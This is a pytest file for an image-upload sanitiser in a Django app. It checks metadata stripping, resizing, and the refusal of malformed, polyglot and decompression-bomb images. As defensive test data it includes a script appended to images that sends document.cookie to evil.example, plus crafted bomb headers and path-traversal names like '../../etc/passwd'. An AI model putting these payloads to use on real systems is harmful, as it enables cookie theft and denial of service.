"""Photos: known by their bytes, bounded before they are decoded, written anew; what they said of a place is gone."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from jiequ.core import pictures
from jiequ.core.permission import Refused
from jiequ.core.pictures import is_bare, read_pictures, thumbnail
from jiequ.core.uploads import TooLarge

CANARY = "CANARY-22.7123N-114.0456E"


def chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width, height, depth=8, kind=2, data=b""):
    head = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def drawn(form="JPEG", size=(640, 480), mode="RGB", colour=(200, 40, 40), **more):
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, form, **more)
    return out.getvalue()


def exif(orientation=1):
    found = Image.Exif()
    found[0x0112] = orientation
    found[0x010F] = CANARY
    found.get_ifd(0x8825).update({1: "N", 2: (22.0, 42.0, 44.3), 3: "E", 4: (114.0, 2.0, 44.2), 29: CANARY})
    return found


def upload(content, name="照片.jpg", claimed="image/jpeg"):
    return SimpleUploadedFile(name, content, content_type=claimed)


def read(content, name="照片.jpg", claimed="image/jpeg"):
    [found] = read_pictures([upload(content, name, claimed)])
    assert is_bare(found.content)
    with Image.open(io.BytesIO(found.content)) as image:
        image.load()
        assert (image.format, image.mode, image.size) == ("JPEG", "RGB", (found.width, found.height))
        assert dict(image.getexif()) == {}
    return found


def colour_of(picture, at=(5, 5)):
    with Image.open(io.BytesIO(picture.content)) as image:
        return image.convert("RGB").getpixel(at)


def refused(content, **more):
    with pytest.raises(Refused) as caught:
        read(content, **more)
    assert caught.value.field == "photos"
    return caught.value.message


def test_what_a_phone_wrote_about_the_place_is_gone():
    xmp = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/">' + CANARY.encode() + b"</x:xmpmeta>"
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    content = drawn(exif=exif(), comment=CANARY.encode(), xmp=xmp, icc_profile=profile)
    for said in (CANARY.encode(), b"Exif\x00\x00", b"ICC_PROFILE", b"http://ns.adobe.com"):
        assert said in content
    found = read(content)
    for said in (b"CANARY", b"Exif", b"ICC_PROFILE", b"adobe"):
        assert said not in found.content


@pytest.mark.parametrize("form", ["PNG", "WEBP"])
def test_other_kinds_of_pictures_tell_no_more_either(form):
    more = {}
    if form == "PNG":
        info = PngInfo()
        info.add_text("Location", CANARY)
        info.add_itxt("XML:com.adobe.xmp", CANARY, zip=False)
        more["pnginfo"] = info
    else:
        more["xmp"] = CANARY.encode()
    content = drawn(form, exif=exif(), **more)
    assert b"CANARY" in content
    assert b"CANARY" not in read(content).content


@pytest.mark.parametrize("turn", range(1, 9))
def test_a_photo_stands_upright_whichever_way_the_phone_was_held(turn):
    upright = Image.new("RGB", (64, 32), "white")
    upright.paste("red", (0, 0, 16, 16))
    back = {1: None, 2: 0, 3: 3, 4: 1, 5: 5, 6: 2, 7: 6, 8: 4}[turn]  # Image.Transpose that undoes it
    lying = upright if back is None else upright.transpose(Image.Transpose(back))
    out = io.BytesIO()
    lying.save(out, "JPEG", exif=exif(turn), quality=95)
    found = read(out.getvalue())
    assert (found.width, found.height) == (64, 32)
    red, green, _blue = colour_of(found, (4, 4))
    assert red > 200 and green < 60
    assert min(colour_of(found, (60, 28))) > 200


def test_the_longest_side_is_bounded_and_a_small_photo_stays_small():
    assert (lambda p: (p.width, p.height))(read(drawn(size=(4000, 3000)))) == (1600, 1200)
    assert (lambda p: (p.width, p.height))(read(drawn(size=(300, 4000)))) == (120, 1600)
    assert (lambda p: (p.width, p.height))(read(drawn(size=(1, 1)))) == (1, 1)


@pytest.mark.parametrize(
    ("form", "mode", "colour"),
    [
        ("JPEG", "L", 200), ("JPEG", "CMYK", (0, 0, 0, 55)), ("PNG", "1", 1), ("PNG", "P", 0), ("PNG", "LA", (200, 255)),
        ("PNG", "RGBA", (200, 200, 200, 255)), ("PNG", "I;16", 51400), ("WEBP", "RGBA", (200, 200, 200, 255)),
    ],
)  # fmt: skip
def test_every_way_to_store_colours_becomes_the_same(form, mode, colour):
    shade = colour_of(read(drawn(form, mode=mode, colour=colour)))
    expected = {"1": 255, "P": 0}.get(mode, 200)
    assert all(abs(value - expected) <= 4 for value in shade), shade


def test_what_shows_through_is_white():
    assert min(colour_of(read(drawn("PNG", mode="RGBA", colour=(0, 0, 0, 0))))) > 250


def test_of_a_moving_picture_the_first_frame_is_taken():
    out = io.BytesIO()
    frames = [Image.new("RGB", (40, 30), c) for c in ("red", "blue")]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    red, _green, blue = colour_of(read(out.getvalue()))
    assert red > 200 and blue < 60


def test_what_is_hidden_behind_the_end_does_not_come_along():
    script = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
    for content in (drawn() + script, drawn("PNG") + script, drawn("WEBP") + script):
        assert b"script" not in read(content).content


def test_a_photo_that_is_also_an_archive_or_a_document_is_refused():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made:
        made.writestr("x.html", "<script>1</script>")
    assert "夹带" in refused(drawn() + packed.getvalue())
    assert "夹带" in refused(drawn("PNG") + packed.getvalue())
    assert "夹带" in refused(drawn(comment=b"%PDF-1.4"))


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"", "空的"),
        (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "GIF"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "不是照片"),
        (b'<?xml version="1.0"?><svg/>', "不是照片"),
        (b"<html></html>", "不是照片"),
        (b"MZ\x90\x00", "不是照片"),
        (b"PK\x03\x04rest", "不是照片"),
        (b"%PDF-1.4\n%%EOF", "不是照片"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "HEIC"),
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1", "不是照片"),
        (b"II*\x00\x08\x00\x00\x00", "不是照片"),
        (b"BM\x00\x00", "不是照片"),
        (b"\xff\xd8\xff\xe0", "打不开"),
        (b"\x89PNG\r\n\x1a\n", "打不开"),
        (b"RIFF\x00\x00\x00\x00WEBP", "打不开"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 \x00\x00\x00\x00\x00", "打不开"),
    ],
)
def test_what_is_no_photo_is_refused_in_words(content, word):
    message = refused(content)
    assert message.startswith("第 1 张照片") and word in message


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_photo_that_breaks_off_is_refused_wherever_it_breaks(form):
    whole = Image.effect_noise((200, 150), 80).convert("RGB")
    out = io.BytesIO()
    whole.save(out, form)
    content = out.getvalue()
    for share in (0.01, 0.1, 0.5, 0.9):
        assert "打不开" in refused(content[: int(len(content) * share)])


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_byte_that_was_changed_anywhere_is_a_photo_or_a_refusal(form):
    out = io.BytesIO()
    Image.effect_noise((60, 40), 80).convert("RGB").save(out, form, exif=exif())
    content = bytearray(out.getvalue())
    outcomes = set()
    for at in range(0, len(content), max(1, len(content) // 300)):
        hurt = bytes(content[:at]) + bytes([content[at] ^ 0xFF]) + bytes(content[at + 1 :])
        try:
            [found] = read_pictures([upload(hurt)])
            assert is_bare(found.content) and b"CANARY" not in found.content
            outcomes.add("cleaned")
        except Refused:
            outcomes.add("refused")
    assert outcomes == {"cleaned", "refused"}


def test_a_bomb_is_refused_by_what_its_head_declares():
    assert "像素" in refused(png_of(65_000, 65_000))
    assert "像素" in refused(png_of(12_000, 12_000, kind=0, data=zlib.compress((b"\x00" + b"\x00" * 12_000) * 12_000)))
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4 + b"\xff\xff\xff" * 2
    assert "像素" in refused(b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x)
    large = bytearray(drawn())
    at = large.index(b"\xff\xc0") + 5
    large[at : at + 4] = struct.pack(">HH", 65_000, 65_000)
    assert "像素" in refused(bytes(large))


def test_a_large_camera_photo_is_taken_and_a_large_progressive_one_is_not():
    assert read(drawn(size=(9248, 6936), quality=30)).width == 1600
    assert "像素" in refused(drawn(size=(9248, 6936), quality=30, progressive=True))


def test_a_photo_with_endless_passes_is_refused():
    content = drawn(progressive=True)
    at = content.rindex(b"\xff\xda")
    assert "打不开" in refused(content[:at] + content[at:-2] * 100 + content[-2:])


def test_a_text_that_unpacks_without_end_is_no_photo():
    swollen = chunk(b"zTXt", b"x\x00\x00" + zlib.compress(b"a" * 80_000_000))
    content = drawn("PNG")
    at = content.index(b"IDAT") - 4
    assert "打不开" in refused(content[:at] + swollen + content[at:])


def test_what_it_claims_to_be_and_how_it_is_called_do_not_matter():
    for name in ("../../etc/passwd", "a.exe", "x.jpg\x00.html", "照片" * 200 + ".jpg", ".htaccess", "con"):
        assert read(drawn("PNG"), name=name, claimed="text/html").width == 640


def test_too_many_and_too_large_are_refused_before_anything_is_decoded():
    with pytest.raises(Refused, match="至多传 6 张照片，您选了 40 张"):
        read_pictures([upload(b"x")] * 40)
    large = upload(b"x")
    large.size = pictures.EACH + 1
    with pytest.raises(Refused, match="第 2 张照片太大"):
        read_pictures([upload(b"no photo"), large])
    gone = TooLarge(io.BytesIO(), "photos", "a.jpg", "image/jpeg", 5_000_000, None)
    with pytest.raises(Refused, match="加起来太大"):
        read_pictures([gone])


def test_a_thumbnail_is_small_and_as_bare():
    small = thumbnail(read(drawn(size=(4000, 3000))).content)
    with Image.open(io.BytesIO(small)) as image:
        assert image.size == (320, 240)
    assert is_bare(small)
